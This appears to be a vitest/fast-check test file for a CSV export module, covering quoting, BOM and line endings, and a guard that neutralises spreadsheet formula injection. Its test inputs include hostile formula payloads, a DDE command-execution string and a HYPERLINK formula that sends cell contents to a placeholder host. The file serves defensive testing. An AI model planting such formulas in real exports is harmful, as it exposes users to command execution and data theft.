import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ColumnSpec } from '../../../web/api/columns.ts'
import { csvBlocks, csvOf, guard, unguard } from '../../../web/api/formats/csv.ts'
import { readCsv } from '../../support/csv-reader.ts'

const COLUMNS: ColumnSpec[] = [
  { name: 'name', type: 'text' },
  { name: 'count', type: 'integer' },
  { name: 'rate', type: 'number' },
  { name: 'is_stale', type: 'boolean' },
  { name: 'codes', type: 'texts' },
]

/** Texts with what CSV and spreadsheets make something of. */
const text = fc
  .array(
    fc.constantFrom('=', '+', '-', '@', '＝', "'", '"', ',', ';', '\t', '\r', '\n', ' ', '\ufeff', '1', '村', 'a'),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(''))

describe('csvOf', () => {
  it('writes a BOM, a header and CRLF, and leaves unknown cells empty', () => {
    const rows = [
      { name: '石桥村', count: 0, rate: 0.5, is_stale: false, codes: ['a', 'b'], other: 'not a column' },
      { name: null, count: null, rate: undefined, is_stale: null, codes: [] },
    ]
    expect(csvOf(COLUMNS, rows)).toBe('\ufeffname,count,rate,is_stale,codes\r\n石桥村,0,0.5,false,"a;b"\r\n,,,,\r\n')
  })

  it('quotes what would end a cell, in a comma’s or a semicolon’s country', () => {
    const cells = ['a,b', 'a;b', 'say "x"', 'two\nlines', 'two\r\nlines', ' led', 'trailed ', 'a\tb']
    const csv = csvOf(
      [{ name: 'n', type: 'text' }],
      cells.map((n) => ({ n })),
    )
    expect(csv).toBe(`\ufeffn\r\n${cells.map((cell) => `"${cell.replaceAll('"', '""')}"\r\n`).join('')}`)
  })

  it.each([
    '=1+1',
    '+8613800000000',
    '-2+3',
    '@SUM(A1)',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
    '−1',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u3000＝1',
    '\u200b=1',
    '\ufeff=1',
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://x/?"&A1)',
    "'=1",
    '\t',
    '-',
  ])('puts %j out of a spreadsheet’s power', (cell) => {
    expect(guard(cell)).toBe(`'${cell}`)
    expect(readCsv(csvOf([{ name: 'n', type: 'text' }], [{ n: cell }]).slice(1))[1]).toEqual([`'${cell}`])
  })

  it.each(['石桥村', '2026-09-01', '01/石桥村', '990001201001011234', '1-2', 'a=b', "it's", '…', '（一）', ''])(
    'leaves %j as it is',
    (cell) => {
      expect(guard(cell)).toBe(cell)
    },
  )

  it('keeps numbers numbers, also those that begin with a minus', () => {
    const columns: ColumnSpec[] = [{ name: 'n', type: 'number' }]
    const cells = [-1, -0.5, 0, 1e-7, 0.6625, Number.NaN, Number.POSITIVE_INFINITY]
    const lines = csvOf(
      columns,
      cells.map((n) => ({ n })),
    ).split('\r\n')
    expect(lines.slice(1, -1)).toEqual(['-1', '-0.5', '0', '1e-7', '0.6625', '', ''])
  })

  it('reads back as it was, whatever the texts', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.record({ name: text, count: fc.integer(), rate: fc.double({ noNaN: true, noDefaultInfinity: true }) }),
        ),
        (rows) => {
          const [header, ...lines] = readCsv(csvOf(COLUMNS, rows).slice(1))
          expect(header).toEqual(COLUMNS.map(({ name }) => name))
          const back = lines.map(([name = '', count, rate]) => ({
            name: unguard(name),
            count: Number(count),
            rate: Number(rate),
          }))
          // CSV has one zero.
          expect(back).toEqual(rows.map((row) => ({ ...row, rate: row.rate === 0 ? 0 : row.rate })))
        },
      ),
    )
  })

  it('never begins a cell with what a spreadsheet runs', () => {
    fc.assert(
      fc.property(text, (name) => {
        const [, row = []] = readCsv(csvOf([{ name: 'n', type: 'text' }], [{ n: name }]).slice(1))
        expect((row[0] ?? '').trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/)
        expect(row[0] ?? '').not.toMatch(/^[\t\r\n]/)
      }),
    )
  })
})

describe('csvBlocks', () => {
  it('is the same, a block at a time', async () => {
    const blocks = [[{ name: 'a', count: 1 }], [], [{ name: '=b' }, { name: null }]]
    const chunks: Uint8Array[] = []
    for await (const chunk of csvBlocks(COLUMNS, blocks)) chunks.push(chunk)
    expect(chunks).toHaveLength(4)
    expect(Buffer.concat(chunks).toString()).toBe(csvOf(COLUMNS, blocks.flat()))
  })
})
